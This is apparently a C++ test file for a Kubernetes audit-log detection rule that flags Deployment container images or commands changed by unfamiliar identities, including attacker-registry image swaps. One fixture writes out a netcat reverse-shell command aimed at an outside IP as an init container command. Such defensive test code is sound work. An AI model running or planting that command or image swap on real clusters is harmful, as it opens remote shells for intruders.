// Tests of the workload-image-changed rule.
#include <catch2/catch.hpp>

#include "controller/detect/detections.h"
#include "test/controller/detect/detect_test_util.h"

namespace kc::audit {
namespace {

using namespace detect_test;

// A Deployment's init container image swapped (or its command changed) by an identity that
// never changed the Deployment: the workload's code changed as surely as through `containers`.
TEST_CASE("InitContainerImageChangedByANewIdentity", "[detections]") {
  const PodCarryingKind& k = kPodCarryingKinds[1];
  REQUIRE(k.kind == "Deployment");
  const std::string ci = "system:serviceaccount:ci:deployer";
  auto spec = [](const std::string& initImage, json initCommand = nullptr) {
    json init = fullContainer("migrate", initImage);
    if (!initCommand.is_null()) init["command"] = initCommand;
    return podTemplateSpec("registry.example.com/shop/web:1.4.2", {{"initContainers", {init}}});
  };
  auto dep = [&](const json& s) {
    return podCarryingObject(k, "shop", "web", "dep-init", s, true);
  };
  Detector d(DetectorOptions{});
  Ev c;
  c.auditID = "a-create";
  c.uri = "/apis/apps/v1/namespaces/shop/deployments";
  c.user = ci;
  c.resource = "deployments";
  c.apiGroup = "apps";
  c.ns = "shop";
  c.name = "web";
  c.requestObject =
      podCarryingObject(k, "shop", "web", "", spec("registry.example.com/shop/migrate:1.0"), false);
  c.responseObject = dep(spec("registry.example.com/shop/migrate:1.0"));
  c.time = at(1);
  CHECK(feed(d, c.str()).empty());

  // The pipeline that created it releases a new init image: expected.
  Ev up = c;
  up.auditID = "a-up-ci";
  up.verb = "update";
  up.code = 200;
  up.uri = "/apis/apps/v1/namespaces/shop/deployments/web";
  up.requestObject = dep(spec("registry.example.com/shop/migrate:1.1"));
  up.responseObject = up.requestObject;
  up.time = at(2);
  CHECK(feed(d, up.str()).empty());

  Ev evil = up;
  evil.auditID = "a-evil";
  evil.user = "mallory@example.com";
  evil.time = at(3);
  SECTION("patch") {
    evil.verb = "patch";
    evil.uri += "?fieldManager=kubectl-patch";
    evil.requestObject = {
        {"spec",
         {{"template",
           {{"spec",
             {{"$setElementOrder/initContainers", {{{"name", "migrate"}}}},
              {"initContainers",
               {{{"name", "migrate"}, {"image", "docker.io/attacker/migrate:1"}}}}}}}}}}};
  }
  SECTION("update") { evil.requestObject = dep(spec("docker.io/attacker/migrate:1")); }
  evil.responseObject = dep(spec("docker.io/attacker/migrate:1"));
  auto fs = feed(d, evil.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
  const Finding& f = fs[0];
  CHECK(f.severity == Severity::kHigh);
  CHECK(f.technique == "T1491.001");
  CHECK(f.user == "mallory@example.com");
  CHECK(f.kind == "Deployment");
  CHECK(f.namespace_ == "shop");
  CHECK(f.name == "web");
  CHECK(f.verb == evil.verb);
  CHECK(f.details.at("change") ==
        "init:migrate: registry.example.com/shop/migrate:1.1 -> docker.io/attacker/migrate:1");
  CHECK(f.details.at("oldImages") == "registry.example.com/shop/migrate:1.1");
  CHECK(f.details.at("newImages") == "docker.io/attacker/migrate:1");
  CHECK(f.details.at("previousChangers") == ci);
  // The changed container only, by its own name (not the unchanged app container).
  CHECK(f.containers == std::vector<std::string>{"migrate"});

  // A command change of the init container by yet another identity counts too.
  Ev cmd = up;
  cmd.auditID = "a-cmd";
  cmd.user = "eve@example.com";
  cmd.requestObject = dep(
      spec("docker.io/attacker/migrate:1", {"/bin/sh", "-c", "nc -e /bin/sh 203.0.113.50 4444"}));
  cmd.responseObject = cmd.requestObject;
  cmd.time = at(4);
  fs = feed(d, cmd.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
  CHECK(fs[0].details.at("change") == "init:migrate: command changed");
  CHECK(fs[0].user == "eve@example.com");
  CHECK(fs[0].details.count("oldImages") == 0);
}

// A served Deployment's image changed by an identity that never changed it is high; the
// look-alikes (the pipeline that released it releasing again, a new identity scaling it or
// changing its labels) are not reported; an image-updater bot can be trusted.
TEST_CASE("WorkloadImageChangedLookAlikesAndTrustedIdentities", "[detections]") {
  const std::string ci = "system:serviceaccount:ci:deployer";
  auto change = [](Detector& d, const std::string& id, const std::string& user, json dep, int day) {
    Ev e;
    e.auditID = id;
    e.verb = "update";
    e.code = 200;
    e.uri = "/apis/apps/v1/namespaces/shop/deployments/checkout";
    e.user = user;
    e.resource = "deployments";
    e.apiGroup = "apps";
    e.ns = "shop";
    e.name = "checkout";
    e.requestObject = dep;
    e.responseObject = dep;
    e.time = at(day);
    return feed(d, e.str());
  };
  DetectorOptions o;
  o.trustedIdentities["workload-image-changed"] = {
      "system:serviceaccount:argocd:argocd-image-updater"};
  Detector d(o);
  rollOut(d, ci, "shop", "checkout", "registry.example.com/shop/checkout:2.0.0", 1, "co");
  CHECK(change(d, "u-ci", ci,
               deployment("shop", "checkout", "dep-co", "registry.example.com/shop/checkout:2.1.0"),
               2)
            .empty());
  json scaled =
      deployment("shop", "checkout", "dep-co", "registry.example.com/shop/checkout:2.1.0");
  scaled["spec"]["replicas"] = 5;
  scaled["metadata"]["labels"]["tier"] = "frontend";
  CHECK(change(d, "u-scale", "oncall@example.com", scaled, 3).empty());

  auto fs = change(
      d, "u-bot", "system:serviceaccount:argocd:argocd-image-updater",
      deployment("shop", "checkout", "dep-co", "registry.example.com/shop/checkout:2.1.1"), 4);
  CHECK(fs.empty());
  fs = change(d, "u-evil", "mallory@example.com",
              deployment("shop", "checkout", "dep-co", "ghcr.io/attacker/checkout:2.1.1"), 5);
  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].technique == "T1491.001");
  CHECK(fs[0].user == "mallory@example.com");
  CHECK(fs[0].details.at("oldImages") == "registry.example.com/shop/checkout:2.1.1");
  CHECK(fs[0].details.at("newImages") == "ghcr.io/attacker/checkout:2.1.1");
  CHECK(fs[0].containers == std::vector<std::string>{"app"});
}

}  // namespace
}  // namespace kc::audit
